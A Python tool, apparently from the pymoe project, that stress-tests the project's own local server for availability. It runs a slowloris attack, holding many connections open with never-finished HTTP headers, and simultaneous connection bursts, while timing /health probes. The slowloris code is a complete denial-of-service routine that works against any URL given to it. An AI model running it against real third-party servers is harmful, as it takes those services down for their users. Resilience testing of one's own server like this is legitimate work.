"""Availability probes against a running `pymoe serve`: slowloris and connection bursts.

    python tools/serve_attack.py http://127.0.0.1:8080 slowloris --connections 64 --seconds 20
    python tools/serve_attack.py http://127.0.0.1:8080 burst --connections 20 --rounds 10

slowloris: CONNECTIONS clients each send a request's header one byte every
INTERVAL seconds and never finish it (a client the server closes reconnects at
once); meanwhile GET /health is probed every 0.5 s. Prints the probes' outcomes
and latencies. burst: CONNECTIONS clients connect at the same instant and each
sends GET /health, ROUNDS times; prints failures (refused, reset, timed out,
non-200) and the connect and answer latencies (a SYN dropped from a full
listen queue is retried after ~1 s)."""

from __future__ import annotations

import argparse
import http.client
import json
import socket
import statistics
import threading
import time
from collections import Counter
from urllib.parse import urlsplit


def _probe(host: str, port: int, timeout: float) -> tuple[str, float]:
    """GET /health: (outcome, seconds); outcome is the status code or the exception's name."""
    t0 = time.monotonic()
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        conn.request("GET", "/health")
        resp = conn.getresponse()
        resp.read()
        return str(resp.status), time.monotonic() - t0
    except Exception as e:
        return type(e).__name__, time.monotonic() - t0
    finally:
        conn.close()


def _summary(outcomes: list[tuple[str, float]]) -> dict[str, object]:
    ok = sorted(t for o, t in outcomes if o == "200")
    return {
        "probes": len(outcomes),
        "outcomes": dict(Counter(o for o, _ in outcomes)),
        "ok_latency_ms": {
            "median": round(1000 * statistics.median(ok), 1) if ok else None,
            "max": round(1000 * ok[-1], 1) if ok else None,
        },
    }


def slowloris(host: str, port: int, connections: int, seconds: float, interval: float) -> dict[str, object]:
    stop = threading.Event()
    reconnects = Counter[str]()
    lock = threading.Lock()

    connected = threading.Semaphore(0)

    def attacker() -> None:
        while not stop.is_set():
            try:
                with socket.create_connection((host, port), timeout=5) as s:
                    s.sendall(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                    connected.release()
                    while not stop.wait(interval):
                        s.sendall(b"X")  # one byte of a header line that never ends
            except OSError:
                pass
            with lock:
                reconnects["reconnects"] += 1
            stop.wait(0.01)

    threads = [threading.Thread(target=attacker, daemon=True) for _ in range(connections)]
    for t in threads:  # one after the other: a burst would meet a full listen queue
        t.start()
        time.sleep(0.02)
    for _ in range(connections):  # every attacker has connected once
        connected.acquire(timeout=30)
    outcomes = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        outcomes.append(_probe(host, port, timeout=5.0))
        time.sleep(0.5)
    stop.set()
    for t in threads:
        t.join(10)
    return {"slowloris_connections": connections, "interval_s": interval, **_summary(outcomes), **reconnects}


def burst(host: str, port: int, connections: int, rounds: int) -> dict[str, object]:
    outcomes: list[tuple[str, float]] = []
    connect_times: list[float] = []
    lock = threading.Lock()
    for _ in range(rounds):
        barrier = threading.Barrier(connections)

        def client(barrier: threading.Barrier) -> None:
            barrier.wait()
            t0 = time.monotonic()
            try:
                sock = socket.create_connection((host, port), timeout=10)
            except OSError as e:
                with lock:
                    outcomes.append((type(e).__name__, time.monotonic() - t0))
                return
            t1 = time.monotonic()
            try:
                sock.sendall(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
                data = b""
                while chunk := sock.recv(65536):
                    data += chunk
                outcome = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else "no answer"
            except OSError as e:
                outcome = type(e).__name__
            finally:
                sock.close()
            with lock:
                outcomes.append((outcome, time.monotonic() - t0))
                connect_times.append(t1 - t0)

        threads = [threading.Thread(target=client, args=(barrier,)) for _ in range(connections)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(30)
        time.sleep(0.5)
    slow = sum(t > 0.9 for t in connect_times)
    return {
        "burst_connections": connections,
        "rounds": rounds,
        **_summary(outcomes),
        "connects_over_0.9s": slow,
        "connect_ms_max": round(1000 * max(connect_times), 1) if connect_times else None,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url", help="the server, e.g. http://127.0.0.1:8080")
    parser.add_argument("probe", choices=("slowloris", "burst"))
    parser.add_argument("--connections", type=int, default=None, help="slowloris: 64; burst: 20")
    parser.add_argument("--seconds", type=float, default=20.0, help="slowloris: how long to probe /health")
    parser.add_argument("--interval", type=float, default=1.0, help="slowloris: seconds between header bytes")
    parser.add_argument("--rounds", type=int, default=10, help="burst: how many bursts")
    args = parser.parse_args()
    u = urlsplit(args.url)
    host, port = u.hostname or "127.0.0.1", u.port or 80
    if args.probe == "slowloris":
        out = slowloris(host, port, args.connections or 64, args.seconds, args.interval)
    else:
        out = burst(host, port, args.connections or 20, args.rounds)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
